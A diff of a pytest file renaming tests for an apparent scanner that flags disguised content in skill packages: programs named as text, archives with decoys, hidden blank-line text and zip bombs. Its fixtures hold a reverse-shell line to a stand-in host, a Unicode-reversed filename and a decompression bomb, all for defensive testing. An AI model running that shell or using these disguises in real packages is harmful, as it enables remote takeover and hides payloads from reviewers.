@@ -1,4 +1,4 @@
-"""Files that are not what a reader takes them for, and honest ones that resemble them."""
+"""Disguised files, and honest files that resemble them."""
 
 import gzip
 import io
@@ -33,7 +33,7 @@ def zipped(flag=0):
 
 @pytest.mark.parametrize("data", [ELF, b"MZ\x90\0" + b"\0" * 90, b"\xcf\xfa\xed\xfe" + b"\0" * 30, b"\0asm\1\0\0\0"])
 @pytest.mark.parametrize("path", ["references/a.md", "assets/notes.TXT", "assets/logo.png", "a.pdf", "data.json"])
-def test_attack_a_program_under_the_name_of_a_text(path, data):
+def test_attack_a_program_with_the_name_of_a_text_is_found(path, data):
     assert "SH605" in rules(path, data)
 
 
@@ -46,16 +46,16 @@ def test_attack_a_program_under_the_name_of_a_text(path, data):
         ("assets/photo.png", BYTECODE),
     ],
 )
-def test_attack_a_script_or_bytecode_under_the_name_of_a_picture(path, data):
+def test_attack_a_script_or_bytecode_with_the_name_of_a_picture_is_found(path, data):
     assert "SH605" in rules(path, data)
 
 
 @pytest.mark.parametrize("path", ["lib/__pycache__/a.cpython-311.pyc", "a.pyo", "lib/module", "assets/data.bin"])
-def test_attack_bytecode_that_python_runs_in_the_place_of_a_source(path):
+def test_attack_bytecode_of_python_is_found(path):
     assert "SH610" in rules(path, BYTECODE)
 
 
-def test_what_python_compiles_is_seen_under_any_name(tmp_path):
+def test_compiled_python_is_found_under_any_name(tmp_path):
     (tmp_path / "a.py").write_text("x = 1\n")
     for mode in py_compile.PycInvalidationMode:
         compiled = py_compile.compile(str(tmp_path / "a.py"), str(tmp_path / "a.bin"), invalidation_mode=mode)
@@ -78,7 +78,7 @@ def test_what_python_compiles_is_seen_under_any_name(tmp_path):
         ("a.deb", b"!<arch>\ndebian-binary"),
     ],
 )
-def test_attack_an_archive_whose_content_no_reader_sees(path, data):
+def test_attack_an_archive_is_found_under_any_name(path, data):
     assert rules(path, data) == {"SH606", "SH613"}
     assert rules(path, zipped()) == {"SH606"}
 
@@ -98,32 +98,32 @@ def holding(kind, names):
 
 @pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
 @pytest.mark.parametrize("name", ["SKILL.md", "a/b/Skill.MD", "a\\SKILL.md"])
-def test_attack_a_skill_in_an_archive_behind_many_files(kind, name):
+def test_attack_a_skill_in_an_archive_behind_many_files_is_found(kind, name):
     decoys = [f"decoy-{number}.txt" for number in range(300)]
     assert rules(f"a.{kind}", holding(kind, [*decoys, name])) == {"SH612", "SH613"}
     assert rules(f"a.{kind}", holding(kind, [*decoys, "my-skill.md", "SKILL.md.bak"])) == {"SH606", "SH613"}
 
 
-def test_of_many_archives_each_is_a_finding_and_few_are_opened():
+def test_each_archive_is_a_finding_and_20_are_opened():
     packed = holding("zip", ["SKILL.md"])
     found = scan(Tree({f"a{number:02}.zip": File(packed) for number in range(30)}))
     assert [sum(each.rule == rule for each in found) for rule in ("SH612", "SH606", "SH613")] == [20, 10, 10]
 
 
 @pytest.mark.parametrize("path", ["a.zip", "assets/a.dat"])
-def test_attack_an_archive_with_a_password(path):
+def test_attack_an_archive_with_a_password_is_found(path):
     assert rules(path, zipped(1)) == {"SH607"}
     assert rules(path, zipped(1)[:60]) == {"SH607", "SH613"}
 
 
 @pytest.mark.parametrize("blank", [b"\n" * 50, b"\r\n" * 50, b"  \t\n" * 60, b"\n\x0b" * 60])
-def test_attack_text_behind_many_blank_lines(blank):
+def test_attack_text_behind_many_blank_lines_is_found(blank):
     data = b"---\nname: a\ndescription: b\n---\nShort.\n" + blank + b"More.\n"
     found = [each for each in scan(Tree({"SKILL.md": File(data)})) if each.rule == "SH608"]
     assert [each.line for each in found] == [data[: data.find(b"More")].count(b"\n") + 1]
 
 
-def test_attack_a_line_too_long_to_be_read():
+def test_attack_a_line_of_unreadable_length_is_found():
     data = b"a\n" + b"x = 1; " * 900 + b"\n"
     (found,) = scan(Tree({"scripts/a.py": File(data)}))
     assert (found.rule, found.line) == ("SH611", 2)
@@ -144,12 +144,12 @@ def test_attack_a_line_too_long_to_be_read():
         ("scripts/a.sh", b"#!/bin/sh\necho hello\n"),
     ],
 )
-def test_honest_files_are_let_through(path, data):
+def test_honest_files_have_no_finding(path, data):
     assert rules(path, data) == set()
 
 
 @pytest.mark.parametrize("unit", [b"\n", b" \n", b"\n" * 39 + b"a", b"PK\x03\x04", b"x" * 6000 + b"\n"])
-def test_attack_no_file_takes_more_than_its_length(unit):
+def test_attack_files_take_linear_time(unit):
     assert is_linear(lambda size: scan(Tree({"a.sh": File(unit * (size // len(unit)))})), 6_000)
 
 
@@ -172,7 +172,7 @@ PIPE = b"bash -i >& /dev/tcp/c.invalid/1 0>&1\n"
 
 
 @pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
-def test_attack_a_command_in_an_archive(kind):
+def test_attack_a_command_in_an_archive_is_found(kind):
     files = {"a/\u202erun.sh": PIPE, "b.txt": b"words"}
     seen = [each for each in scan(Tree({"assets/x.bin": File(packed(kind, files))})) if each.rule == "SH402"]
     found = next(each for each in seen if each.line == 0)
@@ -185,8 +185,8 @@ def test_attack_a_command_in_an_archive(kind):
 
 
 @pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
-def test_attack_decoys_end_the_search_before_what_they_hide(kind):
-    """Whatever limit of the search is met, that is a grave finding; an archive that was searched whole has none."""
+def test_attack_an_archive_not_searched_whole_is_a_grave_finding(kind):
+    """Each limit of the search is a grave finding; an archive that was searched whole has none."""
     bad, large = packed(kind, {"run.sh": PIPE}), packed(kind, {"a.txt": b"a" * (1 << 16) + PIPE})
     many = packed(kind, {f"{number:03}.txt": b"words" for number in range(100)})
     filling = packed(kind, {f"{number}.txt": b"\n" * (1 << 16) for number in range(65)})
@@ -218,15 +218,15 @@ def test_attack_an_archive_under_the_name_of_a_document(data):
     assert rules("assets/letter.docx", holding("zip", ["a.xml"])) == set()
 
 
-def test_attack_a_second_part_of_a_gzip_file():
+def test_attack_a_second_member_of_a_gzip_file_is_found():
     assert "SH613" in rules("a.gz", gzip.compress(b"words") + gzip.compress(PIPE))
 
 
-def test_attack_a_packed_script_without_an_archive():
+def test_attack_a_script_packed_by_gzip_is_found():
     assert "SH402" in rules("assets/x.gz", gzip.compress(PIPE))
 
 
-def test_nothing_is_unpacked_without_end():
+def test_unpacking_is_limited():
     bomb = packed("zip", {f"{n}.sh": b"\n" * (1 << 22) for n in range(40)})
     files = {f"{n}.zip": bomb for n in range(30)} | {f"{n}.gz": gzip.compress(b"\0" * (1 << 23)) for n in range(30)}
     with at_most(20):
@@ -236,12 +236,12 @@ def test_nothing_is_unpacked_without_end():
 
 @pytest.mark.parametrize("cut", [10, 30, 60, -30, -5])
 @pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
-def test_a_broken_archive_is_an_archive(kind, cut):
+def test_broken_archive_has_only_findings_of_archives(kind, cut):
     assert rules("assets/x.bin", packed(kind, {"a.sh": b"echo hello\n"})[:cut]) <= {"SH606", "SH607", "SH613"}
 
 
 @pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
-def test_attack_a_broken_file_in_an_archive_hides_no_other_and_stops_no_scan(method):
+def test_attack_a_broken_file_in_an_archive_hides_no_other_file(method):
     held = io.BytesIO()
     with zipfile.ZipFile(held, "w", method) as archive:
         archive.writestr("first.txt", "x" * 300)
